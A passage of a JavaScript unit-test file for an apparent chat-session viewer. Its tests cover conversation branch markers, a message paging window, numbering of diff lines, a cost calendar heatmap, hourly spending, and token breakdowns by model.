  const lefts = branches => reader.items(messages, 'normal', { ...places, branches }).filter(item => item.what === 'left').map(item => [item.uuid, item.target, item.text])
  assert.deepEqual(lefts([{ left: '8', taken: '3' }, { left: '9', taken: '3' }]), [['3', '8', 'Another branch was left here'], ['3', '9', 'Another branch was left here']])
  assert.deepEqual(lefts([{ left: '3', taken: '9' }]), [['3', '9', 'This branch was left for another one']])
})

test('a window lets go at one end what it takes at the other, and can ask for it again', () => {
  const page = (first, count, more = {}) => ({ session_id: 's', messages: Array.from({ length: count }, (_, at) => ({ uuid: `${first + at}`, offset: first + at, role: 'user', blocks: [] })), older: first > 0 ? `<${first}` : null, newer: `>${first + count}`, is_last: false, ...more })
  let window = new windows.Window([page(19_900, 100, { is_last: true })])
  for (let first = 19_800; first >= 0; first -= 100) {
    window = window.before(page(first, 100))
    assert.ok(window.messages.length <= windows.KEPT)
    const offsets = window.messages.map(one => one.offset)
    assert.deepEqual(offsets, Array.from({ length: offsets.length }, (_, at) => first + at), 'none is missing between')
  }
  assert.deepEqual([window.older, window.newer, window.isLast], [null, '>600', false])
  for (let first = 600; first < 20_000; first += 100) window = window.after(page(first, 100, { is_last: first === 19_900 }))
  assert.deepEqual([window.messages.at(-1).offset, window.isLast, window.older], [19_999, true, '<19400'])
  window = window.after(page(20_000, 1, { is_last: true }))
  assert.equal(window.messages.at(-1).offset, 20_000)
})

test('lines of a change are numbered and paired', () => {
  const rows = diffRows.rows([{ old_start: 3, new_start: 3, lines: [' a', '-b', '+B', ' c'] }, { old_start: 9, new_start: 9, lines: ['+z'] }])
  assert.deepEqual(rows, [
    { kind: 'same', number: 3, text: 'a' },
    { kind: 'removed', number: 4, text: 'b', other: 'B' },
    { kind: 'added', number: 4, text: 'B', other: 'b' },
    { kind: 'same', number: 5, text: 'c' },
    { kind: 'gap' },
    { kind: 'added', number: 9, text: 'z', other: undefined },
  ])
})

test('a calendar has a year by weeks, up to today, and each day the heat of its quarter', () => {
  const lines = [['2026-11-29', 8], ['2026-11-28', 1], ['2026-11-27', 2], ['2026-11-26', 4]].map(([key, cost_usd]) => ({ key, cost_usd }))
  const weeks = insights.calendar(lines, '2026-11-29')
  assert.deepEqual([weeks.length, weeks.at(-1).at(-1).day, weeks[0][0].day], [53, '2026-11-29', '2025-11-24'])
  assert.deepEqual(weeks.at(-1).map(day => day.heat), [0, 0, 0, 3, 2, 1, 4])
  assert.equal(insights.calendar([], '2026-11-25').at(-1).length, 3, 'days that have not come are left out')
})

test('hours are added up by weekday, with the day on which most was spent', () => {
  const all = insights.hours([{ key: '2026-11-23 09:00', cost_usd: 1 }, { key: '2026-11-16 09:00', cost_usd: 3 }, { key: '2026-11-29 23:00', cost_usd: 2 }, { key: '', cost_usd: 5 }])
  assert.deepEqual([all[0][9], all[6][23].cost], [{ cost: 4, day: '2026-11-16', most: 3 }, 2])
})

test('tokens of models are parted by kind, and a change is said in words', () => {
  const line = (key, cost_usd, input_tokens) => ({ key, cost_usd, input_tokens, cache_read_tokens: 10, cache_creation_tokens: 5, output_tokens: 1 })
  assert.deepEqual(insights.byModel([line('a', 1, 4), line('b', 9, 2)]).map(({ model, tokens, all }) => [model, tokens, all]), [['b', [2, 10, 5, 1], 18], ['a', [4, 10, 5, 1], 20]])
  assert.deepEqual([insights.change(12, 10), insights.change(6, 10), insights.change(5, 0), insights.change(200, 10)], ['+20%', '−40%', '', '20×'])
})
